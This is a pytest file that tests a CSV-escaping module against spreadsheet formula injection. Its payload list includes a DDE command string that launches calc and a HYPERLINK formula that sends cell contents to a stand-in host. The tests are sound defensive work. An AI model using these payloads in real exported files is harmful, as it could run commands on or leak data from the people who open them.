"""A file of ours opened in a spreadsheet runs nothing (reliability M)."""

import ast
import csv
import io
import unicodedata
from pathlib import Path

import pytest

from citizen_app.csv_cells import LONGEST, STARTS_A_FORMULA, csv_lines, safe_cell

ROOT = Path(__file__).resolve().parents[2]

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    "\ntext",
    "=cmd|'/C calc'!A0",
    "|cmd",
    "%0A=1",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "  =1",
    "\u00a0=1",
    "\u3000=1",
    '"=1',
    "'=1",
    "“=1",
    "«=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    " ＝1",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫x",
    "₊1",
    "⁺1",
    "\ufeff=1",
    "\u200b=1",
    "\u200e=1",
    "\u2060=1",
    "\x00=1",
    "\x0b=1",
    "\x1f=1",
    "\u0301=1",
    "=" + "1" * 40_000,
]


def parsed(*rows):
    return list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline="")))


def first_sign(text):
    """What a spreadsheet sees first: past room and quotes, in the compatible form."""
    return unicodedata.normalize("NFKC", text)[:1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_could_be_a_formula_is_first_in_its_cell(attack):
    ((cell, after),) = parsed([attack, "after"])
    assert (cell[0], after) == ("'", "after")
    assert first_sign(cell) not in STARTS_A_FORMULA
    assert cell[1:] == attack.replace("\x00", "")[:LONGEST]


@pytest.mark.parametrize(
    "text", ["Hotel Aurora", "10 % off", "a=b", "1-2", "Ana @ desk", "", " ", "'tis", "é", "東京", "x\ny", "—"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert parsed([text, "x"]) == [[text, "x"]]


def test_numbers_are_numbers_also_below_zero_and_none_is_nothing():
    assert "".join(csv_lines([[-5, 0, 10, None, "-5"]])) == '-5,0,10,"","\'-5"\r\n'
    assert safe_cell(True) == 1


@pytest.mark.parametrize("separator", [",", ";", "\t", '"', "\r\n", "\n", "\r"])
def test_a_separator_inside_a_cell_opens_no_other(separator):
    text = f"a{separator}=1+1"
    assert parsed([text, "x"]) == [[text, "x"]]


def test_rows_are_written_one_at_a_time():
    def endless():
        while True:
            yield ["a", 1]

    lines = csv_lines(endless())
    assert [next(lines), next(lines)] == ['"a",1\r\n'] * 2


def test_nobody_writes_such_files_another_way():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("citizen_app", "scores", "perks")
        for path in (ROOT / app).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter")
    ]
    # The second makes the sample that is in the repository; nobody calls it in a running product.
    assert sorted(writers) == ["citizen_app/csv_cells.py", "scores/sample/make_extract.py"]
